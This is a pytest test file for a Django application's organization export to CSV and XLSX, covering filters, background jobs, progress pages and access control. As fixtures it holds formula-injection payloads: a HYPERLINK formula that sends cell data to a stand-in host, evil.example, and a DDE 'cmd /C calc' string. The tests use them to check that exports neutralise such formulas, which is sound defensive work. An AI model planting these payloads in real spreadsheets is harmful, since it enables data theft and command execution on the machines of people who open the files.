"""Exporting organizations to CSV and XLSX, directly or as a background job with a progress page."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from seedbed.core import services
from seedbed.core.models import AuditEvent, Job, JobStatus, Organization
from tests.core.helpers import make_organization, text

pytestmark = pytest.mark.django_db

HEADER = [
    "Name",
    "Kind",
    "Country",
    "ISO code",
    "UNICEF region",
    "Website",
    "Description",
    "Sample data",
    "Link",
]
EVIL_NAME = '=HYPERLINK("http://evil.example/steal?"&A1,"Click me")'


@pytest.fixture
def directory(countries) -> dict[str, Organization]:
    return {
        "kijani": make_organization(
            "Kijani Agritech", "startup", "KE", website="https://kijani.example.org", description="Crop data."
        ),
        "nairobi": make_organization("Nairobi School of Data", "academic", "KE"),
        "dakar": make_organization("Dakar Health Lab", "startup", "SN"),
        "lima": make_organization("Lima Open Maps", "private_sector", "PE"),
        "alliance": make_organization("Global Goods Alliance", "alliance"),
    }


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV should start with a BOM so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    return [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]


def download(response) -> bytes:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


# --- Direct downloads under the limit ------------------------------------------------------------------


def test_csv_export_has_the_rows_matching_the_filters(manager, directory):
    response = manager.get("/organizations/?kind=startup&export=csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.match(r'attachment; filename="organizations-\d{8}\.csv"', response["Content-Disposition"])
    rows = read_csv(response.content)
    assert rows[0] == HEADER
    assert rows[1:] == [
        [
            "Dakar Health Lab",
            "Startup",
            "Senegal",
            "SN",
            "WCAR",
            "",
            "",
            "no",
            "/organizations/dakar-health-lab/",
        ],
        [
            "Kijani Agritech",
            "Startup",
            "Kenya",
            "KE",
            "ESAR",
            "https://kijani.example.org",
            "Crop data.",
            "no",
            "/organizations/kijani-agritech/",
        ],
    ]


@pytest.mark.parametrize(
    ("query", "names"),
    [
        (
            "",
            [
                "Dakar Health Lab",
                "Global Goods Alliance",
                "Kijani Agritech",
                "Lima Open Maps",
                "Nairobi School of Data",
            ],
        ),
        ("region=ESAR", ["Kijani Agritech", "Nairobi School of Data"]),
        ("country=PE", ["Lima Open Maps"]),
        ("q=lab&sort=-name", ["Dakar Health Lab"]),
        ("sort=-name&kind=startup", ["Kijani Agritech", "Dakar Health Lab"]),
        ("q=nothing-matches", []),
    ],
)
def test_exports_follow_the_list_filters_and_sort(manager, directory, query, names):
    csv_rows = read_csv(manager.get(f"/organizations/?{query}&export=csv").content)
    xlsx_rows = read_xlsx(manager.get(f"/organizations/?{query}&export=xlsx").content)
    assert [row[0] for row in csv_rows[1:]] == names
    assert [row[0] for row in xlsx_rows[1:]] == names


def test_xlsx_export(manager, directory):
    response = manager.get("/organizations/?country=KE&export=xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Organizations"]
    rows = read_xlsx(response.content)
    assert rows[0] == HEADER
    assert rows[1][:5] == ["Kijani Agritech", "Startup", "Kenya", "KE", "ESAR"]
    assert rows[2][:5] == ["Nairobi School of Data", "Academic institution", "Kenya", "KE", "ESAR"]
    assert len(rows) == 3


def test_formulas_are_neutralised_in_csv_and_xlsx(manager, countries):
    make_organization(EVIL_NAME, "startup", "KE", description="+1+cmd|' /C calc'!A0")
    make_organization("@SUM(1+1)", "startup", "KE", description="-2+3")

    csv_rows = read_csv(manager.get("/organizations/?export=csv").content)
    for row in csv_rows[1:]:
        for cell in (row[0], row[6]):
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert f"'{EVIL_NAME}" in [row[0] for row in csv_rows]

    response = manager.get("/organizations/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    assert f"'{EVIL_NAME}" in [cell.value for cell in cells]


def test_exports_hold_no_personal_data(manager, personas, directory):
    services.membership_add(
        actor=None,
        organization=directory["kijani"],
        user=personas["applicant"],
        title="Founder",
        role="owner",
    )
    for fmt in ("csv", "xlsx"):
        content = manager.get(f"/organizations/?export={fmt}").content
        flat = str(read_csv(content) if fmt == "csv" else read_xlsx(content))
        assert "applicant@example.org" not in flat
        assert "Applicant" not in flat
        assert "Founder" not in flat


def test_an_unknown_export_format_shows_the_list(manager, directory):
    response = manager.get("/organizations/?export=pdf")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert not Job.objects.exists()


def test_a_small_export_starts_no_job(manager, directory):
    manager.get("/organizations/?export=csv")
    assert not Job.objects.exists()


# --- Large exports run as background jobs ------------------------------------------------------------


@pytest.fixture
def small_limit(settings):
    settings.SEEDBED_EXPORT_SYNC_LIMIT = 3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_large_export_runs_as_a_job_and_can_be_downloaded(
    manager, personas, directory, small_limit, django_capture_on_commit_callbacks, fmt
):
    with django_capture_on_commit_callbacks(execute=True):
        response = manager.get(f"/organizations/?region=ESAR&kind=&export={fmt}")
        # Two organizations in ESAR: under the limit, a direct download.
        assert response.status_code == 200
        response = manager.get(f"/organizations/?sort=-name&export={fmt}")

    job = Job.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/jobs/{job.pk}/"
    assert job.created_by == personas["fund_manager"]
    assert job.status == JobStatus.SUCCEEDED
    assert job.total == job.done == 5
    assert job.finished_at is not None
    assert job.message == "5 organizations exported."
    assert AuditEvent.objects.filter(action="organization.export", object_id=str(job.pk)).count() == 1

    page = manager.get(response["Location"])
    assert page.status_code == 200
    body = text(page)
    assert "The export runs in the background." in body
    assert "5 of 5 (100%)" in body
    assert "hx-trigger" not in body
    assert f'href="/jobs/{job.pk}/download/"' in body

    file_response = manager.get(f"/jobs/{job.pk}/download/")
    assert file_response.status_code == 200
    assert f".{fmt}" in file_response["Content-Disposition"]
    content = download(file_response)
    rows = read_csv(content) if fmt == "csv" else read_xlsx(content)
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == [
        "Nairobi School of Data",
        "Lima Open Maps",
        "Kijani Agritech",
        "Global Goods Alliance",
        "Dakar Health Lab",
    ]
    # The home page tells the user the result is ready.
    home = text(manager.get("/"))
    assert "is ready." in home


def test_a_job_export_keeps_the_filters(manager, countries, small_limit, django_capture_on_commit_callbacks):
    for n in range(5):
        make_organization(f"Kenyan Startup {n}", "startup", "KE")
        make_organization(f"Peruvian Startup {n}", "startup", "PE")
    make_organization("Kenyan University", "academic", "KE")

    with django_capture_on_commit_callbacks(execute=True):
        manager.get("/organizations/?country=KE&kind=startup&export=csv")

    job = Job.objects.get()
    rows = read_csv(download(manager.get(f"/jobs/{job.pk}/download/")))
    assert [row[0] for row in rows[1:]] == [f"Kenyan Startup {n}" for n in range(5)]
    assert job.total == 5


def test_formulas_are_neutralised_in_job_exports(
    manager, countries, small_limit, django_capture_on_commit_callbacks
):
    for n in range(4):
        make_organization(f"Organization {n}", "startup", "KE")
    make_organization(EVIL_NAME, "startup", "KE")
    with django_capture_on_commit_callbacks(execute=True):
        manager.get("/organizations/?export=csv")
    rows = read_csv(download(manager.get(f"/jobs/{Job.objects.get().pk}/download/")))
    assert f"'{EVIL_NAME}" in [row[0] for row in rows]


@pytest.fixture
def finished_job(manager, directory, small_limit, django_capture_on_commit_callbacks) -> Job:
    with django_capture_on_commit_callbacks(execute=True):
        manager.get("/organizations/?export=csv")
    return Job.objects.get()


@pytest.mark.parametrize("persona", ["reviewer", "finance_officer", "outsider"])
def test_another_user_cannot_see_or_download_a_job(finished_job, personas, client_for, persona):
    other = client_for(personas[persona])
    for url in (
        f"/jobs/{finished_job.pk}/",
        f"/jobs/{finished_job.pk}/progress/",
        f"/jobs/{finished_job.pk}/download/",
    ):
        assert other.get(url).status_code == 404, url
    assert finished_job.title not in text(other.get("/"))


def test_an_administrator_can_see_any_job(finished_job, personas, client_for):
    admin = client_for(personas["administrator"])
    assert admin.get(f"/jobs/{finished_job.pk}/").status_code == 200
    assert admin.get(f"/jobs/{finished_job.pk}/download/").status_code == 200


def test_an_unknown_job_is_404(manager, countries):
    assert manager.get("/jobs/00000000-0000-0000-0000-000000000000/").status_code == 404
    assert manager.get("/jobs/not-a-uuid/").status_code == 404


def test_a_job_without_a_result_has_no_download(manager, personas, countries):
    job = Job.objects.create(kind="organization_export", title="Export", created_by=personas["fund_manager"])
    assert manager.get(f"/jobs/{job.pk}/download/").status_code == 404
    assert "Download the result" not in text(manager.get(f"/jobs/{job.pk}/"))


def test_the_progress_partial_polls_only_while_the_job_runs(manager, personas, countries):
    job = Job.objects.create(
        kind="organization_export",
        title="Export of organizations (CSV)",
        status=JobStatus.RUNNING,
        total=200,
        done=50,
        created_by=personas["fund_manager"],
    )

    running = text(manager.get(f"/jobs/{job.pk}/progress/"))
    assert 'hx-trigger="every 1s"' in running
    assert f'hx-get="/jobs/{job.pk}/progress/"' in running
    assert "50 of 200 (25%)" in running
    assert "<html" not in running  # a fragment, not a page
    page = text(manager.get(f"/jobs/{job.pk}/"))
    assert 'hx-trigger="every 1s"' in page
    assert "is running." in text(manager.get("/"))

    Job.objects.filter(pk=job.pk).update(status=JobStatus.QUEUED, total=None, done=0)
    queued = text(manager.get(f"/jobs/{job.pk}/progress/"))
    assert "hx-trigger" in queued
    assert "Waiting for the worker" in queued

    Job.objects.filter(pk=job.pk).update(status=JobStatus.SUCCEEDED, total=200, done=200)
    finished = text(manager.get(f"/jobs/{job.pk}/progress/"))
    assert "hx-trigger" not in finished
    assert "200 of 200 (100%)" in finished

    Job.objects.filter(pk=job.pk).update(status=JobStatus.FAILED, error="DiskFull: no space left")
    failed = text(manager.get(f"/jobs/{job.pk}/progress/"))
    assert "hx-trigger" not in failed
    assert "The job failed: DiskFull: no space left" in failed


def test_a_failing_job_is_marked_failed_with_its_error(
    manager, directory, small_limit, django_capture_on_commit_callbacks, monkeypatch
):
    from seedbed.core import tasks

    def explode(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(tasks, "organization_export_write", explode)
    with django_capture_on_commit_callbacks(execute=True):
        response = manager.get("/organizations/?export=csv")

    job = Job.objects.get()
    assert response.status_code == 302
    assert job.status == JobStatus.FAILED
    assert "disk full" in job.error
    assert not job.result_file
    assert "The job failed" in text(manager.get(f"/jobs/{job.pk}/"))
    assert manager.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_running_a_finished_job_again_changes_nothing(finished_job):
    from seedbed.core.tasks import organization_export_task

    before = (finished_job.status, finished_job.result_file.name, finished_job.finished_at)
    organization_export_task.call_local(str(finished_job.pk))
    finished_job.refresh_from_db()
    assert (finished_job.status, finished_job.result_file.name, finished_job.finished_at) == before
